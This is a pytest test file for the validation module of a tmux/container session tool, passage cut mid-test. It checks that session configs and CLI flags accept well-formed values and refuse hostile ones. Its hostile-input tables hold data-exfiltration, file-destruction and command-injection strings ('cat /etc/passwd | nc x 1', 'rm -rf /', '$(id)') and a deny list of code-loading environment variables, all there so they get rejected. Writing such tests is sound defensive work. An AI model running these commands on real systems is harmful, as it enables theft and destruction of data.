"""The shared validation module: every validator, a table of hostile inputs, property tests.

These rules are the "deep defense" of issue 2: the same validators guard the config file, the CLI
options and the invoke task flags, so each test here checks the accepted value (and what it is
turned into) or the refusal with its exact wording.
"""

from __future__ import annotations

import shlex
import string
from pathlib import Path

import pytest
import voluptuous as vol
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from kstlib_tasks import validation as v
from kstlib_tasks.backends.container import ContainerOptions
from kstlib_tasks.backends.tmux import TmuxOptions
from kstlib_tasks.engine import overrides
from kstlib_tasks.errors import KstlibError, ValidationError
from kstlib_tasks.models import SessionSpec
from kstlib_tasks.opsconfig import OpsConfig

# Deterministic and fast enough for CI: same examples on every run, no example database.
FAST = settings(
    max_examples=250,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

SESSION = "astro-prod"
DIGEST = "sha256:" + "0123456789abcdef" * 4


def refused(field: str, value: object) -> ValidationError:
    """The ValidationError raised by ``check`` (never any other exception)."""
    with pytest.raises(ValidationError) as info:
        v.check(field, value, session=SESSION)
    err = info.value
    assert isinstance(err, KstlibError)
    assert "\n" not in str(err), "a refusal is one line"
    return err


def message(field: str, value: object) -> str:
    return str(refused(field, value))


# =========================================================================== session names


@pytest.mark.parametrize(
    "name",
    ["a", "Z", "astro-dev", "astro-prod-2", "A1-b2-C3", "x" * 64, "a--b", "a-"],
)
def test_session_name_accepted(name: str) -> None:
    assert v.session_name(name) == name
    assert v.check("name", name) == name


@pytest.mark.parametrize(
    "name",
    [
        "", "1abc", "-abc", "a_b", "a.b", "a b", "a/b", "a:b", "a;b", "astro\n", "astro\r",
        "\nastro", "a\x00", "é", "astroé", "ästro", "a\u200bb", "a\u202eb", "x" * 65,
        "\uff41\uff53\uff54\uff52\uff4f", "a\tb",
    ],
)
def test_session_name_refused(name: str) -> None:
    err = refused("name", name)
    assert err.field == "name"


@pytest.mark.parametrize("value", [None, 1, True, ["a"], {"a": 1}])
def test_session_name_wrong_type(value: object) -> None:
    assert "expected a session name" in message("name", value)


def test_session_name_messages() -> None:
    assert message("name", "a_b") == (
        "session 'astro-prod': name: invalid session name 'a_b': start with a letter, then "
        "letters, digits or '-' (use '-', invoke turns '_' into '-')"
    )
    assert message("name", "x" * 65) == (
        "session 'astro-prod': name: session name longer than 64 characters"
    )
    assert message("name", "") == "session 'astro-prod': name: session name is empty"
    # Without a session the message is the field and the reason only.
    with pytest.raises(ValidationError) as info:
        v.check("name", "9lives")
    assert str(info.value).startswith("name: invalid session name '9lives'")


# =========================================================================== backend / runtime


@pytest.mark.parametrize("value", ["tmux", "container"])
def test_backend_accepted(value: str) -> None:
    assert v.check("backend", value) == value


@pytest.mark.parametrize("value", ["Tmux", "docker", "tmux\n", "", " tmux", None, 1])
def test_backend_refused(value: object) -> None:
    refused("backend", value)


def test_backend_message() -> None:
    assert message("backend", "screen") == (
        "session 'astro-prod': backend: unknown backend 'screen' (expected 'tmux', "
        "'container' or 'swarm')"
    )


@pytest.mark.parametrize("value", ["podman", "docker", None])
def test_runtime_accepted(value: str | None) -> None:
    assert v.check("runtime", value) == value


@pytest.mark.parametrize("value", ["lxc", "Podman", "docker\n", "", 3, ["podman"]])
def test_runtime_refused(value: object) -> None:
    refused("runtime", value)


# =========================================================================== commands


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("python -m http.server 8000", ("python", "-m", "http.server", "8000")),
        ("echo 'hello world'", ("echo", "hello world")),
        ('echo "a b" c', ("echo", "a b", "c")),
        ("bash -c source", ("bash", "-c", "source")),
        ("echo source exec eval", ("echo", "source", "exec", "eval")),
        ("exec-thing --flag=value", ("exec-thing", "--flag=value")),
        ("echo $HOME", ("echo", "$HOME")),
        ("echo # not a comment", ("echo", "#", "not", "a", "comment")),
        ("echo\ttab", ("echo", "tab")),
        ("  spaced   out  ", ("spaced", "out")),
        ("x" * 4096, ("x" * 4096,)),
    ],
)
def test_command_accepted_returns_argv(text: str, argv: tuple[str, ...]) -> None:
    assert v.check("command", text) == argv


def test_command_as_list_keeps_words() -> None:
    assert v.check("command", ["echo", "a b", "source"]) == ("echo", "a b", "source")
    assert v.check("command", ("sleep", "1")) == ("sleep", "1")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "command is empty"),
        ("   ", "command is empty"),
        ([], "command is empty"),
        ("echo 'open", "cannot split command: No closing quotation"),
        ("x" * 4097, "command longer than 4096 characters"),
        (["x" * 3000, "y" * 1200], "command longer than 4096 characters"),
        ("echo a; rm -rf /", "contains shell control syntax ';' (put it in a script and run that)"),
        ("echo a\nrm", "contains a newline"),
        ("echo a\x00", "contains a NUL"),
        ("echo a\rb", "contains a carriage return"),
        ("echo `id`", "contains shell control syntax backtick command substitution"),
        ("echo $(id)", "contains shell control syntax command substitution '$('"),
        ("a > f", "contains shell control syntax redirection '>'"),
        (["echo", "a;b"], "contains shell control syntax ';'"),
        ([1, 2], "expected a string for each command word, got a int"),
        ({"a": 1}, "expected a command string, got a mapping"),
        (None, "expected a command string, got null"),
    ],
)
def test_command_refused_messages(text: object, reason: str) -> None:
    assert reason in message("command", text)


def test_command_message_exact() -> None:
    assert message("command", "a && b") == (
        "session 'astro-prod': command: contains shell control syntax '&&' (put it in a script "
        "and run that)"
    )


# =========================================================================== images


@pytest.mark.parametrize(
    "ref",
    [
        "busybox",
        "busybox:latest",
        "library/busybox:1.36",
        "localhost/kstlib-test-busybox:latest",
        "localhost:5000/team/app:v1.2.3",
        "registry.example.com/ns/app",
        "Registry.Example.COM:5000/ns/app:TAG_1",  # upper-case registry host and tag are fine
        "quay.io/podman/hello:latest",
        f"busybox@{DIGEST}",
        f"registry.example.com:443/a/b/c:1.0@{DIGEST}",
        "ab__cd/e--f.g_h",
        "[::1]:5000/app",
        "a" * 256,
    ],
)
def test_image_accepted(ref: str) -> None:
    assert v.check("image", ref) == ref


@pytest.mark.parametrize(
    "ref",
    [
        "UPPER/x",
        "Busybox",
        "ns/App:1",
        "busybox:",
        "busybox:-tag",
        "busybox:" + "t" * 129,
        "busybox@sha256:abc",
        "busybox@",
        "a//b",
        "/busybox",
        "busybox/",
        "-busybox",
        "a___b",
        "busybox\n",
        "busybox latest",
        "busybox;id",
        "$(id)",
        "busybox:tag\x00",
        "registry.example.com:port/app",
        "a" * 257,
        "",
        5,
        None,
    ],
)
def test_image_refused(ref: object) -> None:
    refused("image", ref)


def test_image_messages() -> None:
    assert message("image", "UPPER/x") == (
        "session 'astro-prod': image: invalid image reference 'UPPER/x'"
    )
    assert message("image", "a" * 257) == (
        "session 'astro-prod': image: image reference longer than 256 characters"
    )
    assert message("image", "x\n") == "session 'astro-prod': image: invalid image reference 'x\\n'"


# =========================================================================== volumes


@pytest.mark.parametrize(
    "text",
    [
        "/srv/data:/data",
        "./data:/data",
        "data:/data",
        "my_vol.1:/var/lib/x",
        "~/cache:/root/.cache",
        "sub/dir:/x",
        "/a:/b:ro",
        "/a:/b:ro,Z",
        "/a:/b:rw,z,nocopy",
        "/a/.hidden:/b/.x",
    ],
)
def test_volume_accepted(text: str) -> None:
    assert v.check("volume", text) == text


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("../x:/data", "contains '..'"),
        ("/a/../b:/data", "contains '..'"),
        ("/a/..:/data", "contains '..'"),
        ("..:/data", "contains '..'"),
        ("/a:/data/../etc", "contains '..'"),
        ("/a:../data", "contains '..'"),
        ("/a:/data/..", "contains '..'"),
        ("/a:/b:..", "contains '..'"),
        ("/a:/b:ro,..", "contains '..'"),
        ("/a..b:/c", "contains '..'"),
        ("/a:data", "container path must be absolute"),
        ("/a", "expected 'host:container[:options]'"),
        (":/data", "expected 'host:container[:options]'"),
        ("/a:", "expected 'host:container[:options]'"),
        ("/a:/b:ro:x", "expected 'host:container[:options]'"),
        ("/a:/b:", "unknown option ''"),
        ("/a:/b:rx", "unknown option 'rx'"),
        ("-v:/b", "invalid host path or volume name"),
        ("--privileged:/b", "invalid host path or volume name"),
        ("/a\n:/b", "volume contains a newline"),
        ("/a:/b\x00", "volume contains a NUL"),
        ("/a\t:/b", "volume contains a control character U+0009"),
        ("/a\u2028:/b", "volume contains a control character U+2028"),
        ("/a:/b\n", "volume contains a newline"),
        (["/a:/b"], "expected a volume"),
        (None, "expected a volume"),
    ],
)
def test_volume_refused(text: object, reason: str) -> None:
    assert reason in message("volume", text)


def test_volumes_list_limits_and_index() -> None:
    assert v.check("volumes", ["/a:/b"] * 20) == ["/a:/b"] * 20
    assert v.check("volumes", "/a:/b") == ["/a:/b"]  # one string is a one-item list
    assert message("volumes", ["/a:/b"] * 21) == (
        "session 'astro-prod': volumes: more than 20 volumes"
    )
    assert message("volumes", ["/a:/b", "/c/../d:/e"]) == (
        "session 'astro-prod': volumes[1]: volume '/c/../d:/e' contains '..'"
    )
    assert "expected a list of volumes, got a mapping" in message("volumes", {"a": "b"})


# =========================================================================== ports


@pytest.mark.parametrize(
    ("value", "clean"),
    [
        (8080, "8080"),
        ("8080", "8080"),
        ("1", "1"),
        ("65535", "65535"),
        ("8080:80", "8080:80"),
        ("8080:80/tcp", "8080:80/tcp"),
        ("53:53/udp", "53:53/udp"),
        ("127.0.0.1:8080:80", "127.0.0.1:8080:80"),
        ("127.0.0.1::80", "127.0.0.1::80"),
        ("0.0.0.0:8080:80/udp", "0.0.0.0:8080:80/udp"),
        ("[::1]:8080:80", "[::1]:8080:80"),
        ("[2001:db8::1]:8080:80/tcp", "[2001:db8::1]:8080:80/tcp"),
        ("[::1]::80", "[::1]::80"),
    ],
)
def test_port_accepted(value: object, clean: str) -> None:
    assert v.check("port", value) == clean


@pytest.mark.parametrize(
    "value",
    [
        0, "0", 65536, "65536", "99999", "123456", -1, "-1", "80/sctp", "80/", "80/tcp/udp",
        "80/TCP", "a", "", ":80", "80:", "1:2:3:4", "256.0.0.1:80:80", "1.2.3:80:80",
        "localhost:80:80", "[::1]", "[::1]:80", "[zz::1]:80:80", "[::1:80:80",
        "[::1]x8080:80", "80\n", " 80", "80 ", "\uff18\uff10\uff18\uff10", "80;id",
        "$(id)", "80|x", True, None, 8080.0, ["80"],
    ],
)
def test_port_refused(value: object) -> None:
    refused("port", value)


def test_port_messages() -> None:
    assert message("port", "0") == (
        "session 'astro-prod': port: invalid port '0': ports are numbers 1-65535"
    )
    assert "protocol must be tcp or udp" in message("port", "80/sctp")
    assert "bad IP address 'localhost'" in message("port", "localhost:80:80")
    assert "expected a port, got a boolean" in message("port", True)


@pytest.mark.parametrize(("port", "everywhere", "local"), [
    ("80", True, "127.0.0.1::80"),  # a random host port, on every interface
    ("80/udp", True, "127.0.0.1::80/udp"),
    ("8080:80", True, "127.0.0.1:8080:80"),
    ("0.0.0.0:8080:80", True, "127.0.0.1:8080:80"),
    ("0.0.0.0::80", True, "127.0.0.1::80"),
    ("[::]:8080:80/tcp", True, "127.0.0.1:8080:80/tcp"),
    ("127.0.0.1:8080:80", False, "127.0.0.1:8080:80"),
    ("127.0.0.1::80", False, "127.0.0.1::80"),
    ("[::1]:8080:80", False, "127.0.0.1:8080:80"),
    ("192.168.1.5:8080:80", False, "127.0.0.1:8080:80"),
])
def test_ports_published_on_every_interface(port: str, everywhere: bool, local: str) -> None:
    assert v.port(port) == port
    assert v.port_on_all_interfaces(port) is everywhere
    assert v.port_on_this_machine(port) == local
    assert v.port(local) == local and not v.port_on_all_interfaces(local)


def test_ports_list_limits() -> None:
    assert v.check("ports", list(range(1, 51))) == [str(i) for i in range(1, 51)]
    assert v.check("ports", 8080) == ["8080"]  # a bare integer is that one port
    assert message("ports", list(range(1, 52))) == (
        "session 'astro-prod': ports: more than 50 ports"
    )
    assert message("ports", ["80", "0"]).startswith("session 'astro-prod': ports[1]: ")


# =========================================================================== env


def test_env_mapping_and_numbers() -> None:
    assert v.check("env", {"PORT": 8080, "DEBUG": 0, "RATIO": 0.5, "NAME": "astro"}) == {
        "PORT": "8080",
        "DEBUG": "0",
        "RATIO": "0.5",
        "NAME": "astro",
    }
    assert v.check("env", {"_X": "", "a1": "x y; z $(id)"}) == {"_X": "", "a1": "x y; z $(id)"}


def test_env_list_form() -> None:
    assert v.check("env", ["A=1", "B=x=y", "C="]) == {"A": "1", "B": "x=y", "C": ""}
    assert "invalid environment entry 'B': expected NAME=value" in message("env", ["A=1", "B"])


@pytest.mark.parametrize(
    "key",
    [
        "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "DYLD_LIBRARY_PATH",
        "PYTHONPATH", "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "RUBYOPT", "BASH_ENV", "ENV",
    ],
)
def test_env_forbidden_keys(key: str) -> None:
    assert message("env", {key: "x"}) == (
        f"session 'astro-prod': env.{key}: {key} is refused: it makes programs load foreign code"
    )


@pytest.mark.parametrize(
    "key", ["", "1A", "A-B", "A B", "A=B", "A\n", "A\x00", "É", "A\u200b", "\uff21", "A.B", 5]
)
def test_env_bad_keys(key: object) -> None:
    assert "invalid environment variable name" in message("env", {key: "x"}) or isinstance(
        key, int
    )


@pytest.mark.parametrize(("value", "shown"), [(True, "true"), (False, "false"), (None, "null")])
def test_env_booleans_and_null_say_quote_it(value: object, shown: str) -> None:
    assert message("env", {"FLAG": value}) == (
        f"session 'astro-prod': env.FLAG: value {shown} is not a string: quote it"
    )


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("a\x00b", "value contains a NUL"),
        (["a"], "expected a string value, got a list"),
        ({"a": 1}, "expected a string value, got a mapping"),
    ],
)
def test_env_bad_values(value: object, reason: str) -> None:
    assert reason in message("env", {"X": value})


def test_env_limits_and_types() -> None:
    hundred = {f"K{i}": "x" for i in range(100)}
    assert v.check("env", hundred) == hundred
    assert message("env", {**hundred, "K100": "x"}) == (
        "session 'astro-prod': env: more than 100 environment variables"
    )
    assert "expected a mapping of NAME: value, got a str" in message("env", "A=1")


@pytest.mark.parametrize(
    "key",
    [
        "PYTHONUSERBASE", "PYTHONWARNINGS", "PYTHONHOME", "PERLLIB", "PERL5LIB", "RUBYLIB",
        "NODE_PATH", "GCONV_PATH", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "SHELLOPTS", "BASHOPTS",
        "PROMPT_COMMAND", "PS4", "LD_AUDIT", "LD_BIND_NOW", "LD_DEBUG", "LD_FOO", "LD_",
        "GIT_SSH", "GIT_SSH_COMMAND", "GIT_ASKPASS", "GIT_EXEC_PATH", "GIT_DIR", "GIT_PAGER",
        "GIT_EDITOR", "GIT_EXTERNAL_DIFF", "GIT_PROXY_COMMAND", "GIT_TEMPLATE_DIR",
        "GIT_CONFIG", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0",
        "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG_PARAMETERS", "DYLD_ANYTHING",
    ],
)
def test_env_more_forbidden_keys(key: str) -> None:
    assert message("env", {key: "x"}) == (
        f"session 'astro-prod': env.{key}: {key} is refused: it makes programs load foreign code"
    )
    assert "refused" in message("env", [f"{key}=x"])  # the --env form too


@pytest.mark.parametrize("key", ["LDFLAGS", "OLD_LD_PRELOAD", "GIT_AUTHOR_NAME", "PYTHONUNBUFFERED",
                                 "NODE_ENV", "PATH", "HOME", "LANG"])
def test_env_keys_near_the_forbidden_ones_pass(key: str) -> None:
    assert v.check("env", {key: "x"}) == {key: "x"}


def test_env_value_and_total_size() -> None:
    limit = 32 * 1024
    assert v.check("env", {"BIG": "x" * limit})["BIG"] == "x" * limit
    assert message("env", {"BIG": "x" * (limit + 1)}) == (
        "session 'astro-prod': env.BIG: value longer than 32 KiB"
    )
    assert message("env", [f"BIG={'x' * (limit + 1)}"]) == (
        "session 'astro-prod': env.BIG: value longer than 32 KiB"
    )
    # 4 values of 32 KiB are 128 KiB and some: refused as a whole, in one line
    four = {f"K{i}": "x" * limit for i in range(4)}
    assert message("env", four) == (
        "session 'astro-prod': env: environment larger than 128 KiB in all (128 KiB)"
    )
    three = {f"K{i}": "x" * limit for i in range(3)}
    assert v.check("env", three) == three


# =========================================================================== description


@pytest.mark.parametrize("text", ["A web server", "x" * 200, "Ünïcode — fine", "port 8080: api"])
def test_description_accepted(text: str) -> None:
    assert v.check("description", text) == text


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("", "description is empty"),
        ("x" * 201, "description longer than 200 characters"),
        ("two\nlines", "description contains a newline"),
        ("a\rb", "description contains a carriage return"),
        ("a\tb", "description contains a control character U+0009"),
        ("\x1b[31mred", "description contains a control character U+001B"),
        ("a\u2028b", "description contains a control character U+2028"),
        ("a\u202eb", "description contains a control character U+202E"),
        ("a\u3164b", "description contains a blank filler character U+3164"),
        (["a"], "expected a one-line description, got a list"),
        (5, "expected a one-line description, got a int"),
    ],
)
def test_description_refused(value: object, reason: str) -> None:
    assert message("description", value) == f"session 'astro-prod': description: {reason}"


# =========================================================================== blank fillers

FILLERS = ["\u3164", "\u115f", "\u1160", "\uffa0", "\u2800", "\u17b4", "\u17b5"]


@pytest.mark.parametrize("filler", FILLERS)
@pytest.mark.parametrize(
    ("field", "template"),
    [
        ("command", "echo a{}b"),
        ("command", ["echo", "a{}b"]),
        ("working_dir", "/srv/a{}b"),
        ("volume", "/srv/a{}b:/b"),
        ("description", "a{}b"),
    ],
)
def test_blank_fillers_refused_where_invisible_characters_are(field: str, template: object,
                                                              filler: str) -> None:
    value = ([w.format(filler) for w in template] if isinstance(template, list)
             else str(template).format(filler))
    text = message(field, value)
    assert f"blank filler character U+{ord(filler):04X}" in text
    assert filler not in text  # the message never shows it raw
    # the same place refuses the other invisible characters
    other = ([w.replace(filler, "\u200b") for w in value] if isinstance(value, list)
             else value.replace(filler, "\u200b"))
    assert "U+200B" in message(field, other)


@pytest.mark.parametrize("filler", FILLERS)
@pytest.mark.parametrize("field", ["name", "image", "socket_name"])
def test_blank_fillers_refused_in_names(field: str, filler: str) -> None:
    text = message(field, f"a{filler}b")
    assert f"\\u{ord(filler):04x}" in text and filler not in text
    with pytest.raises(vol.Invalid):
        v.env_key(f"A{filler}")
    with pytest.raises(vol.Invalid):
        v.group_name(f"g{filler}")


@pytest.mark.parametrize("filler", FILLERS)
def test_blank_fillers_in_env_values_are_data_like_other_invisibles(filler: str) -> None:
    # env values are data (certificates, JSON...): no character but NUL is refused there,
    # fillers no more than zero-width spaces
    assert v.check("env", {"A": f"x{filler}y", "B": "x\u200by"}) == {
        "A": f"x{filler}y", "B": "x\u200by"}


@pytest.mark.parametrize("filler", FILLERS)
def test_blank_fillers_refused_in_readiness_commands(filler: str) -> None:
    with pytest.raises(vol.Invalid, match=f"blank filler character U[+]{ord(filler):04X}"):
        v.ready({"exec": f"check{filler}"})


# =========================================================================== small fields


@pytest.mark.parametrize("value", ["/srv/app", "rel/dir", "~/x", "./", "a b"])
def test_working_dir_accepted(value: str) -> None:
    assert v.check("working_dir", value) == value


@pytest.mark.parametrize("value", ["", "/a\n", "/a\x00", "/a\t", "a" * 4097, 5, None])
def test_working_dir_refused(value: object) -> None:
    refused("working_dir", value)


@pytest.mark.parametrize("value", ["kt", "my.sock", "a_b-c", "0", None])
def test_socket_name_accepted(value: str | None) -> None:
    assert v.check("socket_name", value) == value


@pytest.mark.parametrize("value", ["", "a b", "../x", "/tmp/s", "-L", "a\n", "a" * 65, 1])
def test_socket_name_refused(value: object) -> None:
    refused("socket_name", value)


@pytest.mark.parametrize("value", ["tmux", "/usr/bin/tmux", "./tmux-3.3"])
def test_tmux_binary_accepted(value: str) -> None:
    assert v.check("tmux_binary", value) == value


@pytest.mark.parametrize("value", ["", "tmux;id", "tmux -L x", "$(id)", "tmux\n", "a|b", None])
def test_tmux_binary_refused(value: object) -> None:
    refused("tmux_binary", value)


def test_init_lines_timeout() -> None:
    assert v.check("init", False) is False
    assert "expected true or false, got 'yes'" in message("init", "yes")
    assert v.check("lines", "20") == 20
    assert v.check("lines", 0) == 0
    for bad in ("-1", "x", True, 1_000_001, "1e3", "20\n"):
        refused("lines", bad)
    assert v.check("timeout", "2.5") == 2.5
    for bad in (True, "x", -1, 3601, None):
        refused("timeout", bad)


def test_error_field_labels() -> None:
    assert v.error_field(["ports", 1]) == "ports[1]"
    assert v.error_field(["env", "X"]) == "env.X"
    assert v.error_field([]) == ""
    # A key with a control character is shown quoted: the message stays on one line.
    assert v.error_field(["env", "A\nB"]) == "env.'A\\nB'"
    assert message("env", {"A\nB": "x"}) == (
        "session 'astro-prod': env.'A\\nB': invalid environment variable name 'A\\nB'"
    )


def test_invalid_reason_rewords_generic_messages() -> None:
    assert v.invalid_reason(vol.Invalid("extra keys not allowed")).startswith("unknown key")
    assert v.invalid_reason(vol.Invalid("expected str for dictionary value")) == (
        "expected a string"
    )


# =========================================================================== hostile inputs

_HOSTILE = [
    # (field, value, words the reason must contain)
    ("command", "echo a; id", "';'"),
    ("command", "sleep 1 & id", "'&'"),
    ("command", "&", "'&'"),
    ("command", "true && id", "'&&'"),
    ("command", "false || id", "'||'"),
    ("command", "cat /etc/passwd | nc x 1", "'|'"),
    ("command", "echo $(id)", "'$('"),
    ("command", "echo `id`", "backtick"),
    ("command", "echo x > /etc/passwd", "'>'"),
    ("command", "echo x >./file", "'>'"),
    ("command", "echo x>>log", "'>'"),
    ("command", "cat < /etc/shadow", "'<'"),
    ("command", "bash 2>&1", "shell control syntax"),
    ("command", "echo 'a;b'", "';'"),  # refused even quoted: the text may meet a shell
    ("command", "echo a\x00", "NUL"),
    ("command", "echo a\nid", "newline"),
    ("command", "echo a\rid", "carriage return"),
    ("command", "echo a\u2028id", "U+2028"),
    ("command", "echo a\u2029id", "U+2029"),
    ("command", "echo \u202egnp.exe", "U+202E"),
    ("command", "echo a\u200bb", "U+200B"),
    ("command", "echo \x1b[2J", "U+001B"),
    ("command", "x" * 4097, "longer than 4096"),
    ("name", "astro\n", "invalid session name"),
    ("name", "a;b", "invalid session name"),
    ("name", "$(id)", "invalid session name"),
    ("name", "a\u202eb", "invalid session name"),
    ("name", "a\u200bb", "invalid session name"),
    ("name", "ästro", "invalid session name"),
    ("name", "\u0430stro", "invalid session name"),  # Cyrillic a
    ("name", "=astro", "invalid session name"),
    ("name", "astro:", "invalid session name"),
    ("name", "x" * 65, "longer than 64"),
    ("image", "UPPER/x", "invalid image reference"),
    ("image", "busybox\n", "invalid image reference"),
    ("image", "busybox;id", "invalid image reference"),
    ("image", "a" * 257, "longer than 256"),
    ("volume", "../etc:/x", "'..'"),
    ("volume", "/srv/../../etc:/x", "'..'"),
    ("volume", "/srv:/x/..", "'..'"),
    ("volume", "/srv:/x:..", "'..'"),
    ("volume", "/srv\n:/x", "newline"),
    ("volume", "/srv\x00:/x", "NUL"),
    ("volumes", ["/a:/b"] * 21, "more than 20"),
    ("port", "\uff18\uff10", "1-65535"),
    ("port", "0", "1-65535"),
    ("port", "65536", "1-65535"),
    ("port", "80;id", "invalid port"),
    ("port", "80\n", "invalid port"),
    ("ports", list(range(1, 52)), "more than 50"),
    ("env", {"LD_PRELOAD": "/x.so"}, "refused"),
    ("env", {"DYLD_INSERT_LIBRARIES": "/x.dylib"}, "refused"),
    ("env", {"BASH_ENV": "/x"}, "refused"),
    ("env", {"A;B": "x"}, "invalid environment variable name"),
    ("env", {"A\n": "x"}, "invalid environment variable name"),
    ("env", {"A": "x\x00"}, "NUL"),
    ("env", {"A": True}, "quote it"),
    ("env", {"A": None}, "quote it"),
    ("env", {f"K{i}": "v" for i in range(101)}, "more than 100"),
    ("socket_name", "../../tmp/x", "invalid tmux socket name"),
    ("tmux_binary", "tmux;id", "invalid tmux binary"),
    ("backend", "tmux\n", "unknown backend"),
    ("runtime", "podman\n", "unknown container runtime"),
]


@pytest.mark.parametrize(
    ("field", "value", "words"),
    _HOSTILE,
    ids=[f"{i}-{f}" for i, (f, _, _) in enumerate(_HOSTILE)],
)
def test_hostile_inputs_refused(field: str, value: object, words: str) -> None:
    err = refused(field, value)
    assert words in err.reason
    assert str(err).startswith(f"session 'astro-prod': {field}")


@pytest.mark.parametrize(
    "value",
    ["astro\n", "astro\r", "astro\r\n", "astro\n\n"],
)
@pytest.mark.parametrize("field", ["name", "image", "backend", "runtime", "socket_name", "port"])
def test_trailing_newline_never_passes(field: str, value: str) -> None:
    if field == "backend":
        value = "tmux" + value[5:]
    elif field == "runtime":
        value = "podman" + value[5:]
    elif field == "port":
        value = "8080" + value[5:]
    refused(field, value)


# =========================================================================== overrides.apply
# The one-off flags of start (front-end keywords: backend, command, env, workdir, image, volume,
# port, socket), checked by the same validators as the file.

CONFIG = OpsConfig(base_dir=Path("/srv/project"))


def _spec(**changes: object) -> SessionSpec:
    base = SessionSpec(
        name=SESSION,
        backend="container",
        command=("sleep", "60"),
        command_text="sleep 60",
        env={"A": "1", "B": "2"},
        working_dir="/srv",
        options=ContainerOptions(image_ref="localhost/app:1", volumes=("/srv:/srv",),
                                 ports=("8080:80",)),
    )
    return base.with_changes(**changes)


def _tmux(**changes: object) -> SessionSpec:
    base = SessionSpec(name=SESSION, backend="tmux", command=("sleep", "60"),
                       command_text="sleep 60", env={"A": "1"}, working_dir="/srv",
                       options=TmuxOptions(socket_name="side"))
    return base.with_changes(**changes)


def apply(spec: SessionSpec, base_dir: Path | None = None, **flags: object) -> SessionSpec:
    return overrides.apply(spec, CONFIG, flags, base_dir=base_dir)


def test_overrides_none_keeps_spec() -> None:
    for spec in (_spec(), _tmux()):
        assert apply(spec) == spec
        assert apply(spec, env=[], volume=[], port=[], image=None, socket=None) == spec


def test_overrides_env_merges_lists_replace(tmp_path: Path) -> None:
    out = apply(
        _spec(),
        env=["B=two", "C=3"],
        volume=["./data:/data", "named:/n"],
        port=[9090],
        base_dir=tmp_path,
    )
    assert dict(out.env) == {"A": "1", "B": "two", "C": "3"}
    assert out.options.volumes == (f"{tmp_path}/data:/data", "named:/n")
    assert out.options.ports == ("9090",)
    assert out.image == "localhost/app:1"  # what was not given stays
    assert apply(_spec(), env={"D": 4}).env["D"] == "4"


def test_overrides_given_is_what_a_start_records() -> None:
    assert overrides.given({"env": [], "volume": (), "image": None, "port": ("80",),
                            "command": "x"}) == {"port": ["80"], "command": "x"}


def test_overrides_command_text_and_list() -> None:
    out = apply(_spec(), command="echo 'a b'")
    assert out.command == ("echo", "a b")
    assert out.command_text == "echo 'a b'"
    out = apply(_spec(), command=["echo", "a b"])
    assert out.command == ("echo", "a b")
    assert out.command_text == "echo 'a b'"


def test_overrides_working_dir_resolved(tmp_path: Path) -> None:
    assert apply(_spec(), workdir="sub/dir", base_dir=tmp_path).working_dir == (
        str(tmp_path / "sub" / "dir")
    )
    assert apply(_spec(), workdir="/abs").working_dir == "/abs"


def test_overrides_image_and_socket() -> None:
    assert apply(_spec(), image="localhost/app:2").options == ContainerOptions(
        image_ref="localhost/app:2", volumes=("/srv:/srv",), ports=("8080:80",))
    assert apply(_tmux(), socket="other").options == TmuxOptions(socket_name="other")


def test_overrides_container_needs_image() -> None:
    with pytest.raises(ValidationError) as info:
        apply(_tmux(), backend="container")
    assert str(info.value) == (
        "session 'astro-prod': image: required for backend 'container' (set image: in the config "
        "or pass --image)"
    )
    out = apply(_tmux(), backend="container", image="localhost/app:1")
    assert (out.backend, out.image) == ("container", "localhost/app:1")
    # a tmux command and folder are host things: they do not follow to a container
    assert (out.command, out.command_text, out.working_dir) == ((), None, None)
    assert dict(out.env) == {"A": "1"}


def test_overrides_switch_to_tmux_runs_in_the_config_folder() -> None:
    out = apply(_spec(), backend="tmux", command="sleep 5")
    assert (out.backend, out.options, out.command) == ("tmux", TmuxOptions(), ("sleep", "5"))
    assert out.working_dir == "/srv/project"


@pytest.mark.parametrize(
    ("flags", "expected"),
    [
        ({"image": "UPPER/x"}, "session 'astro-prod': image: invalid image reference 'UPPER/x'"),
        ({"command": "a; b"}, "session 'astro-prod': command: contains shell control syntax"),
        ({"env": ["LD_PRELOAD=/x"]}, "session 'astro-prod': env.LD_PRELOAD: LD_PRELOAD is"),
        ({"volume": ["/a:/b", "../x:/y"]}, "session 'astro-prod': volumes[1]: volume '../x:/y'"),
        ({"volume": ["/srv/x:/x", "/etc:/etc"]},
         "session 'astro-prod': volume[1]: refused host path /etc: /etc is a system folder (list "
         "the host path under allow_host_mounts: to allow it)"),
        ({"port": ["80", "70000"]}, "session 'astro-prod': ports[1]: invalid port '70000'"),
        ({"backend": "vm"}, "session 'astro-prod': backend: unknown backend 'vm'"),
        ({"workdir": "a\nb"}, "session 'astro-prod': working_dir: working_dir contains"),
    ],
)
def test_overrides_invalid_name_session_and_field(flags: dict, expected: str) -> None:
    with pytest.raises(ValidationError) as info:
        apply(_spec(), **flags)
    assert str(info.value).startswith(expected)
    assert "\n" not in str(info.value)


def test_overrides_socket_refused() -> None:
    with pytest.raises(ValidationError) as info:
        apply(_tmux(), socket="a b")
    assert str(info.value).startswith(
        "session 'astro-prod': socket_name: invalid tmux socket name 'a b'")


def test_overrides_volume_allowed_by_the_entry() -> None:
    spec = _spec(options=ContainerOptions(image_ref="x", allow_host_mounts=("/etc",)))
    assert apply(spec, volume=["/etc:/etc:ro"]).options.volumes == ("/etc:/etc:ro",)


def test_overrides_env_merge_respects_limit() -> None:
    spec = _spec(env={f"K{i}": "x" for i in range(99)})
    assert len(apply(spec, env=["A=1"]).env) == 100
    with pytest.raises(ValidationError, match="more than 100 environment variables"):
        apply(spec, env=["A=1", "B=2"])


def test_overrides_env_merge_respects_total_size() -> None:
    spec = _spec(env={f"K{i}": "x" * 30_000 for i in range(4)})
    with pytest.raises(ValidationError) as info:
        apply(spec, env=["A=" + "y" * 30_000])
    assert str(info.value) == (
